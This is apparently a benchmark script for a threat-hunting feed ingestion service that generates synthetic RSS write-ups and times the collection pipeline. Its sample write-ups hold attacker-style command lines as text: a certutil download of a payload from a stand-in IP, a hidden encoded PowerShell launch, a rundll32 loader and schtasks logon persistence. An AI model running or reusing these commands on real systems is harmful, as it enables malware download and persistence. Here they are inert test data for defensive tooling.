/**
 * Collection end to end in all-in-one wiring (in-memory PGlite + in-process bus): 1,000 feed items
 * from a local HTTP server across 10 RSS feeds, through check_all_sources: fetch, parse, page fetch and
 * Readability extraction for summary-only items, dedup, hunt score, builtin embedding, store, event.
 * Target: under 20 s. Prints figures; asserts nothing.
 * Run: node --import tsx tools/bench/ingestion-collect.ts [items]
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInProcessBus } from '@huntforge/bus';
import { createDb, createSettingsReader, migrateDb } from '@huntforge/data';
import { createLogger, createScheduler, loadConfig } from '@huntforge/platform';
import { createIngestionModule } from '@huntforge/service-ingestion';

const FEEDS = 10;
const PROSE = [
  'The operators staged tooling in a world-writable folder and renamed each binary after a legitimate updater.',
  'Telemetry showed the loader contacting its server every few minutes with small random jitter.',
  'Defenders recovered the configuration block from memory and decoded it with a short script.',
  'The second stage enumerated domain trusts and local administrators before moving to the file servers.',
  'A scheduled task re-launched the implant at every logon, hidden under the name of an office add-in.',
];
const COMMANDS = [
  'rundll32.exe %TEMP%\\{n}\\loader.dll,Start',
  'powershell.exe -nop -w hidden -enc SQBFAFgA{n}',
  'schtasks /create /tn "Updater {n}" /tr "C:\\ProgramData\\upd{n}.exe" /sc onlogon',
  'certutil -urlcache -f http://203.0.113.{m}/p{n}.bin %APPDATA%\\p{n}.bin',
];

/** A distinct write-up of about 3 KB: prose plus command lines in <pre>. */
function articleHtml(n: number): string {
  const parts = [`<h2>Case ${n}</h2>`];
  for (let i = 0; i < 8; i++) {
    parts.push(
      `<p>Case ${n}, stage ${i}: ${PROSE[(n + i) % PROSE.length]} ${PROSE[(n * 7 + i) % PROSE.length]} Host WS-${n}-${i} was affected.</p>`,
    );
    if (i % 2 === 0)
      parts.push(
        `<pre><code>${COMMANDS[(n + i) % COMMANDS.length].replace(/\{n\}/g, String(n)).replace('{m}', String(n % 250))}</code></pre>`,
      );
  }
  return parts.join('\n');
}

const escapeXml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

function rss(feed: number, perFeed: number, origin: string): string {
  const items: string[] = [];
  for (let i = 0; i < perFeed; i++) {
    const n = feed * perFeed + i;
    const url = `${origin}/f${feed}/post-${n}`;
    // Every other item is summary-only, so its page is fetched and run through Readability.
    const content = n % 2 === 0 ? `<content:encoded><![CDATA[${articleHtml(n)}]]></content:encoded>` : '';
    items.push(
      `<item><title>Case ${n}</title><link>${url}</link><guid>${url}</guid><pubDate>${new Date(Date.now() - i * 3_600_000).toUTCString()}</pubDate><description>Summary of case ${n}</description>${content}</item>`,
    );
  }
  return `<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>${escapeXml(`Feed ${feed}`)}</title>${items.join('')}</channel></rss>`;
}

async function main(): Promise<void> {
  const items = Number(process.argv[2] ?? 1000);
  const perFeed = Math.ceil(items / FEEDS);
  const server = createServer((req, res) => {
    const feed = /^\/feed-(\d+)\.xml$/.exec(req.url ?? '');
    if (feed) return void res.writeHead(200, { 'content-type': 'application/rss+xml' }).end(rss(Number(feed[1]), perFeed, origin));
    const post = /^\/f\d+\/post-(\d+)$/.exec(req.url ?? '');
    if (post) {
      const page = `<!doctype html><html><head><title>Case ${post[1]}</title></head><body><nav><a href="/">Home</a></nav><article>${articleHtml(Number(post[1]))}</article><footer>Copyright</footer></body></html>`;
      return void res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
    }
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  const dir = mkdtempSync(join(tmpdir(), 'hf-bench-'));
  const sourcesFile = join(dir, 'sources.yaml');
  const sources = Array.from(
    { length: FEEDS },
    (_, f) => `  - {identifier: bench-${f}, name: Bench ${f}, url: "${origin}/feed-${f}.xml", kind: rss}`,
  );
  writeFileSync(
    sourcesFile,
    `sources:\n${sources.join('\n')}\n  - {identifier: eval, name: Eval, url: "https://huntforge.invalid/eval", kind: html}\n  - {identifier: manual, name: Manual, url: "https://huntforge.invalid/manual", kind: html}\n`,
  );

  const setupStarted = performance.now();
  const db = await createDb({ inMemory: true });
  await migrateDb(db);
  const bus = createInProcessBus();
  const logger = createLogger({ level: 'warn', service: 'bench' });
  const scheduler = createScheduler({ logger, locks: db.repos.jobLocks, runs: db.repos.jobRuns, holder: 'bench' });
  const env = { INGEST_ALLOW_PRIVATE_NETWORKS: 'true', INGEST_HOST_DELAY_MS: '0', SOURCES_FILE: sourcesFile };
  const ctx = {
    config: loadConfig({ AUTH_MODE: 'off' }, { shape: 'all-in-one', service: 'ingestion' }),
    db,
    bus,
    logger,
    scheduler,
    settings: createSettingsReader(db.prisma, { env: {} }),
  };
  let events = 0;
  await bus.subscribe('bench.ingested', ['article.ingested'], async () => {
    events++;
  });
  const module = await createIngestionModule(ctx, { env });
  await module.start();
  console.log(
    `ingestion collect, node ${process.version}: ${FEEDS} feeds × ${perFeed} items, setup ${((performance.now() - setupStarted) / 1000).toFixed(1)} s (PGlite + migrations)`,
  );

  const started = performance.now();
  const cpuBefore = process.cpuUsage();
  const run = await scheduler.runNow('check_all_sources');
  const seconds = (performance.now() - started) / 1000;
  const cpu = process.cpuUsage(cpuBefore);
  const cpuSeconds = (cpu.user + cpu.system) / 1e6;
  const stored = await db.prisma.article.count();
  const embedded = await db.prisma.article.count({ where: { embeddedAt: { not: null } } });
  const scores = await db.prisma.article.aggregate({ _avg: { huntScore: true } });
  const nearDuplicates = await db.prisma.article.count({ where: { duplicateOfId: { not: null } } });
  console.log(`check_all_sources: ${run.outcome} ${JSON.stringify(run.detail)}`);
  console.log(
    `${stored} articles stored (${embedded} embedded, ${nearDuplicates} linked as near duplicates, mean hunt score ${scores._avg.huntScore?.toFixed(1)}), ${events} article.ingested events`,
  );
  console.log(
    `end to end ${seconds.toFixed(2)} s wall, ${cpuSeconds.toFixed(2)} s CPU of this process → ${Math.round(stored / seconds)} items/s (target: ${items} items under 20 s)`,
  );

  const againStarted = performance.now();
  await db.prisma.source.updateMany({ data: { lastCheckedAt: null } });
  const again = await scheduler.runNow('check_all_sources');
  console.log(
    `second pass (all known, no page fetches): ${((performance.now() - againStarted) / 1000).toFixed(2)} s, ${JSON.stringify(again.detail)}`,
  );

  await module.stop();
  await scheduler.stop();
  await bus.close();
  await db.close();
  server.close();
}

void main();
